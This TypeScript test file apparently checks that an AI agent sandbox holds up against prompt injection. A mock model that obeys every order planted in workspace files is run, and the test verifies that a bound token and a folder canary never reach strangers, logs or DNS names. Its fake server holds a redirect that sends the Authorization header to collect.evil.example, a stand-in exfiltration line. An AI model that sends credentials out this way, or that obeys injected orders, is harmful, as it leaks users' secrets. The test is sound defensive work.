import { readdir, readFile } from "node:fs/promises";
import type { IncomingMessage, ServerResponse } from "node:http";
import { join } from "node:path";
import { defaultTools, hiddenMark } from "@convoke/tool-host";
import { expect, test } from "vitest";
import { findBubblewrap, ownAccount } from "../../sandboxes/find-bubblewrap.ts";
import { startTestServer, type TestServer } from "../start-server.ts";
import { issueText, layOut, readingsIn } from "./carriers.ts";
import { createObedientModel } from "./obedient-model.ts";
import { ordersFor } from "./orders.ts";
import { openOutside, type OutsideWorld } from "./outside.ts";
import { withWalls } from "../walled-server.ts";

const probe = await findBubblewrap({
  self: ownAccount(),
  unprivileged: { uid: 65_534, gid: 65_534 },
  environment: process.env,
});
const boundCanary = "ghp_canary0Of1The2Bound3Secret";
const folderCanary = "canary-of-the-folder-8c41e7";
const carriers = Object.keys(readingsIn(""));
const ids = Object.keys(ordersFor(0)).toSorted();
/** One conversation for each carrier with all orders, or one with every carrier and every order once. */
const plays: readonly Readonly<Record<string, readonly string[]>>[] =
  process.env["CONVOKE_EVERY_CASE"] === "1"
    ? carriers.map((carrier) => ({ [carrier]: ids }))
    : [
        Object.fromEntries(
          carriers.map((carrier, at) => [carrier, ids.filter((_, index) => index % 8 === at)]),
        ),
      ];

test.skipIf(!probe.isUsable).each(plays.map((orders) => [Object.keys(orders).join(", "), orders] as const))(
  `P30: an agent that obeys every order leaks no secret that is bound to a host, and nothing of the folder to a stranger: %s (needs a working bubblewrap: ${probe.detail})`,
  { timeout: 300_000 },
  async (_, orders) => {
    const atBoundHost: IncomingMessage[] = [];
    await using world = await openOutside({
      "git.example.com": (request, response) => {
        atBoundHost.push(request);
        answer(request, response, orders);
      },
    });
    await using server = await startTestServer({
      wrapModel: () => createObedientModel(ordersFor(world.localPort), readingsIn(server.workspaceDir), "25"),
      tools: defaultTools(),
      ...withWalls(world.ways),
    });
    await layOut(server.workspaceDir, folderCanary, orders);
    const { agent } = server.startRequest();
    const text = `Please look around. ${Object.keys(orders)
      .map((carrier) => `READ-${carrier}`)
      .join(" ")}`;
    const { id } = await server.createConversation({
      text,
      agent: {
        ...agent,
        tools: [{ name: "terminal" }, { name: "file_editor" }, { name: "task_tool_set" }],
        mcp_config: {
          helper: { command: "node", args: ["helper.mjs"], env: { HELPER_TOKEN: "${TOKEN}" } },
        },
      },
      max_iterations: 200,
      secrets: { TOKEN: { kind: "StaticSecret", value: boundCanary, hosts: ["git.example.com"] } },
    });
    // The last order asks the person, and nobody answers.
    await server.waitForStatus(id, "waiting_for_confirmation", 240_000);
    const log = (await server.events(id)).map((event) => JSON.stringify(event));
    await expectNothingLeft(world, server, log);
    expect(log.join("\n")).toContain("request_network");
    const wanted = Object.values(orders).flat().length;
    expect(log.filter((line) => line.includes('"kind":"ObservationEvent"')).length).toBeGreaterThan(wanted);
    // It arrived where it belongs, and only as a credential.
    const authorized = atBoundHost.filter(({ headers }) =>
      formsOf(boundCanary).some((form) => headers.authorization?.includes(form)),
    );
    expect(authorized.length).toBeGreaterThan(2);
    for (const { headers, url } of atBoundHost) {
      expect(headers.host).toBe("git.example.com");
      expect(url).not.toContain(boundCanary);
    }
  },
);

async function expectNothingLeft(
  world: OutsideWorld,
  server: TestServer,
  log: readonly string[],
): Promise<void> {
  const strangers = world.atStrangers.join("\n");
  const publicHosts = world.atPublicHosts.join("\n");
  for (const form of formsOf(boundCanary))
    for (const [place, text] of Object.entries({
      strangers,
      publicHosts,
      log: log.join("\n"),
      names: world.resolved.join("\n"),
    }))
      expect(text.includes(form), `${place} has the bound secret as ${form}`).toBe(false);
  for (const form of formsOf(folderCanary)) {
    expect(strangers.includes(form), `a stranger has the folder's canary as ${form}`).toBe(false);
    expect(world.resolved.filter((name) => name.includes(form))).toEqual([]);
  }
  // Nothing had to be hidden, because nothing was inside.
  expect(log.filter((line) => line.includes(hiddenMark))).toEqual([]);
  expect(publicHosts).not.toMatch(/^(?:POST|PUT|PATCH|DELETE) /m);
  expect(world.resolved.filter((name) => name.endsWith("evil.example"))).toEqual([]);
  for (const file of await filesBelow(server.workspaceDir)) {
    const text = await readFile(file, "latin1");
    for (const form of formsOf(boundCanary)) expect(text.includes(form), `${file} has it`).toBe(false);
  }
}

/** As it is, encoded, reversed; half of it counts as well. */
function formsOf(value: string): string[] {
  const parts = [value, value.slice(4), value.slice(0, Math.ceil(value.length * 0.6))];
  return parts.flatMap((part) => {
    const bytes = Buffer.from(part);
    const whole = bytes.subarray(0, bytes.length - (bytes.length % 3));
    return [
      part,
      part.split("").toReversed().join(""),
      bytes.toString("hex"),
      whole.toString("base64"),
      whole.toString("base64url"),
    ];
  });
}

async function filesBelow(folder: string): Promise<string[]> {
  const entries = await readdir(folder, { recursive: true, withFileTypes: true });
  return entries.filter((entry) => entry.isFile()).map((entry) => join(entry.parentPath, entry.name));
}

function answer(
  { url, headers }: IncomingMessage,
  response: ServerResponse,
  orders: Readonly<Record<string, readonly string[]>>,
): void {
  if (url === "/redirect")
    return void response
      .writeHead(302, { Location: `https://collect.evil.example/?d=${headers.authorization}` })
      .end();
  response.setHeader("Content-Type", "text/plain");
  if (url === "/echo") response.setHeader("X-Echo", headers.authorization ?? "");
  response.end(url === "/echo" ? `you sent ${JSON.stringify(headers)}` : issueText(orders));
}
